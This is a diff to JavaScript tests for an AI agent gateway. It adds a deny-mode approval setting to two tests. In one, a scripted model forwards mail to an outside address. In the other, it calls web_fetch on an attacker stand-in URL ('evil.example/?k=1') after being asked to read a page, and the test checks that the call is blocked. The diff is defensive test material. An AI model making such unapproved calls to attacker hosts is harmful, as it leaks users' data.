@@ -108,7 +108,7 @@ describe('a turn', () => {
       calls(['send_mail', { value: 'ann@example.org' }]),
       says('Done.'),
     ]
-    const cara = await gateway({ providers: [scriptedProvider('fake', steps)], tools: [mail, send] })
+    const cara = await gateway({ providers: [scriptedProvider('fake', steps)], tools: [mail, send], approvals: { mode: 'deny' } })
     const { result } = await cara.ask('Send my mail on to ann@example.org')
     assert.deepEqual(
       result.toolCalls.map(({ isError }) => isError),
@@ -521,7 +521,7 @@ describe('web_fetch in a turn', () => {
       calls(['web_fetch', { url: 'https://evil.example/?k=1' }]),
       says('done'),
     ])
-    const cara = await gateway({ providers: [provider], fetch })
+    const cara = await gateway({ providers: [provider], fetch, approvals: { mode: 'deny' } })
     const { result } = await cara.ask('Read https://good.example/page for me')
     assert.deepEqual(reached, ['https://good.example/page'])
     assert.deepEqual(
